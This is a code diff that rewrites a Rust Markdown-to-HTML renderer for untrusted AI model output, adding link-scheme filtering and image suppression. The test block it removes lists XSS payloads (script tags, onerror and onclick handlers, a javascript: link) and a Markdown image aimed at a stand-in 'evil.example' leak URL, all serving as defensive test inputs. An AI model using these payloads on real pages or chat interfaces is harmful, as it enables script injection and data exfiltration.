@@ -1,118 +1,118 @@
-//! Model output is untrusted: Markdown is rendered to HTML with raw HTML disabled, then sanitised with `ammonia`
-//! (an allow-list of tags, links only http(s)/mailto with `rel="noopener noreferrer nofollow"`, no images — a
-//! remote image in model output is how chat UIs leak data). The same code runs on the server (history, SSR) and in
-//! the browser (streamed answers).
-use std::sync::OnceLock;
+//! Model output is untrusted. Markdown is rendered to HTML by `pulldown-cmark`, which escapes every text and
+//! attribute it writes; an event filter in front of its writer enforces the rest of the policy:
+//! - raw HTML (blocks and inline) is shown as text, never interpreted;
+//! - images are never loaded (a remote image in model output is how chat UIs leak data): only their alt text shows;
+//! - links keep their `href` only for `http:`, `https:` and `mailto:` destinations, and get
+//!   `rel="noopener noreferrer nofollow"`; any other link (`javascript:`, `data:`, relative) is its text alone;
+//! - no `class`, `style`, `title` or `id` attribute is written (code-block languages, table alignment, link titles).
+//!
+//! The same function runs on the server (history, SSR) and in the browser (streamed answers), so hydration matches.
+//! It replaced `ammonia` (with html5ever it was most of the WASM bundle); the tests keep ammonia, configured with
+//! the same policy, as an oracle: sanitising this renderer's output must change nothing.
+use pulldown_cmark::{CodeBlockKind, CowStr, Event, LinkType, Options, Parser, Tag, TagEnd, html};
 
-use pulldown_cmark::{Event, Options, Parser, html};
-
-fn sanitizer() -> &'static ammonia::Builder<'static> {
-    static BUILDER: OnceLock<ammonia::Builder<'static>> = OnceLock::new();
-    BUILDER.get_or_init(|| {
-        let mut b = ammonia::Builder::default();
-        b.tags(
-            [
-                "p",
-                "br",
-                "hr",
-                "strong",
-                "em",
-                "del",
-                "code",
-                "pre",
-                "blockquote",
-                "ul",
-                "ol",
-                "li",
-                "h1",
-                "h2",
-                "h3",
-                "h4",
-                "h5",
-                "h6",
-                "table",
-                "thead",
-                "tbody",
-                "tr",
-                "th",
-                "td",
-                "a",
-            ]
-            .into_iter()
-            .collect(),
-        )
-        .url_schemes(["http", "https", "mailto"].into_iter().collect())
-        .link_rel(Some("noopener noreferrer nofollow"))
-        .tag_attributes(
-            [
-                ("a", ["href"].into_iter().collect()),
-                ("th", ["align"].into_iter().collect()),
-                ("td", ["align"].into_iter().collect()),
-            ]
-            .into_iter()
-            .collect(),
-        )
-        .add_generic_attributes(std::iter::empty::<&str>())
-        .url_relative(ammonia::UrlRelative::Deny);
-        b
-    })
-}
+/// The `rel` every link carries: no `window.opener`, no referrer, no endorsement.
+pub const LINK_REL: &str = "noopener noreferrer nofollow";
 
 /// Safe HTML for `markdown`.
 pub fn render(markdown: &str) -> String {
     let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH;
-    // Raw HTML in the model's text is shown as text, never interpreted.
-    let events = Parser::new_ext(markdown, options).map(|event| match event {
-        Event::Html(raw) | Event::InlineHtml(raw) => Event::Text(raw),
-        other => other,
-    });
-    let mut unsafe_html = String::with_capacity(markdown.len() * 2);
-    html::push_html(&mut unsafe_html, events);
-    sanitizer().clean(&unsafe_html).to_string()
+    let mut out = String::with_capacity(markdown.len() + markdown.len() / 2);
+    html::push_html(&mut out, SafeEvents::new(Parser::new_ext(markdown, options)));
+    out
+}
+
+/// Whether a link to `url` may be followed: an absolute `http(s)` or `mailto` URL. Browsers ignore tabs and
+/// newlines inside a URL and leading control characters and spaces, so those are dropped before the scheme is read
+/// (`java\tscript:` is `javascript:` to a browser).
+fn allowed_destination(url: &str) -> bool {
+    let cleaned: String = url
+        .trim_start_matches(|c: char| c.is_ascii_control() || c == ' ')
+        .chars()
+        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
+        .take(8)
+        .collect::<String>()
+        .to_ascii_lowercase();
+    cleaned.starts_with("http://") || cleaned.starts_with("https://") || cleaned.starts_with("mailto:")
+}
+
+/// The opening tag of a link that passed [`allowed_destination`], escaped as pulldown-cmark escapes its own.
+fn link_open(href: &str) -> String {
+    let mut tag = String::with_capacity(href.len() + 48);
+    tag.push_str("<a href=\"");
+    // Writing to a String cannot fail.
+    let _ = pulldown_cmark_escape::escape_href(&mut tag, href);
+    tag.push_str("\" rel=\"");
+    tag.push_str(LINK_REL);
+    tag.push_str("\">");
+    tag
+}
+
+/// The parser's events with the policy of this module applied (see the module docs).
+struct SafeEvents<I> {
+    inner: I,
+    /// One entry per open link: whether its `<a>` was written (so its end writes `</a>`).
+    links: Vec<bool>,
+    /// Depth inside images, whose alt text passes as plain text.
+    images: usize,
+}
+
+impl<I> SafeEvents<I> {
+    fn new(inner: I) -> Self {
+        Self { inner, links: Vec::new(), images: 0 }
+    }
+}
+
+impl<'a, I: Iterator<Item = Event<'a>>> Iterator for SafeEvents<I> {
+    type Item = Event<'a>;
+
+    fn next(&mut self) -> Option<Event<'a>> {
+        loop {
+            let event = self.inner.next()?;
+            return Some(match event {
+                Event::Html(raw) | Event::InlineHtml(raw) => Event::Text(raw),
+                Event::Start(Tag::HtmlBlock) | Event::End(TagEnd::HtmlBlock) => continue,
+                Event::Start(Tag::Image { .. }) => {
+                    self.images += 1;
+                    continue;
+                }
+                Event::End(TagEnd::Image) => {
+                    self.images = self.images.saturating_sub(1);
+                    continue;
+                }
+                Event::Start(Tag::Link { link_type, dest_url, .. }) => {
+                    let href = match link_type {
+                        LinkType::Email => CowStr::from(format!("mailto:{dest_url}")),
+                        _ => dest_url,
+                    };
+                    // A link inside an image's alt text is text too.
+                    let written = self.images == 0 && allowed_destination(&href);
+                    self.links.push(written);
+                    if !written {
+                        continue;
+                    }
+                    Event::InlineHtml(link_open(&href).into())
+                }
+                Event::End(TagEnd::Link) => {
+                    if self.links.pop() != Some(true) {
+                        continue;
+                    }
+                    Event::InlineHtml("</a>".into())
+                }
+                // The language of a fenced block would become a `class`; alignment would become a `style`.
+                Event::Start(Tag::CodeBlock(CodeBlockKind::Fenced(_))) => {
+                    Event::Start(Tag::CodeBlock(CodeBlockKind::Indented))
+                }
+                Event::Start(Tag::Table(alignments)) => {
+                    Event::Start(Tag::Table(vec![pulldown_cmark::Alignment::None; alignments.len()]))
+                }
+                // Inside an image, only text survives (it was the alt text).
+                Event::Start(_) | Event::End(_) if self.images > 0 => continue,
+                other => other,
+            });
+        }
+    }
 }
 
 #[cfg(test)]
-mod tests {
-    use super::render;
-
-    #[test]
-    fn markdown_renders_tables_code_and_safe_links() {
-        let html =
-            render("**NOVA** closed at `182.4`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[site](https://example.com)");
-        assert!(html.contains("<strong>NOVA</strong>"));
-        assert!(html.contains("<code>182.4</code>"));
-        assert!(html.contains("<table>") && html.contains("<td>1</td>"));
-        assert!(
-            html.contains(r#"<a href="https://example.com" rel="noopener noreferrer nofollow">site</a>"#),
-            "{html}"
-        );
-    }
-
-    /// The tags of an HTML string (text between `<` and `>`; escaped text has no `<`).
-    fn tags(html: &str) -> Vec<String> {
-        html.split('<').skip(1).filter_map(|rest| rest.split_once('>').map(|(tag, _)| tag.to_lowercase())).collect()
-    }
-
-    #[test]
-    fn scripts_handlers_images_and_bad_links_never_survive() {
-        for attack in [
-            "<script>alert(1)</script>",
-            "<img src=x onerror=alert(1)>",
-            "![exfil](https://evil.example/leak?data=secret)",
-            "[click](javascript:alert(1))",
-            "<a href=\"https://evil.example\" onclick=\"steal()\">x</a>",
-            "<iframe src=\"https://evil.example\"></iframe>",
-            "[rel](/relative/path)",
-        ] {
-            let html = render(attack);
-            for tag in tags(&html) {
-                let name = tag.trim_start_matches('/').split_whitespace().next().unwrap_or_default().to_owned();
-                assert!(["p", "a", "strong", "em", "code"].contains(&name.as_str()), "{attack:?} produced <{tag}>");
-                assert!(!tag.contains(" on"), "{attack:?} produced an event handler: <{tag}>");
-                assert!(!tag.contains("javascript:") && !tag.contains("/relative") && !tag.contains("leak"), "<{tag}>");
-            }
-        }
-        // Raw HTML is shown as text.
-        assert!(render("<b>bold?</b>").contains("&lt;b&gt;"));
-    }
-}
+mod tests;
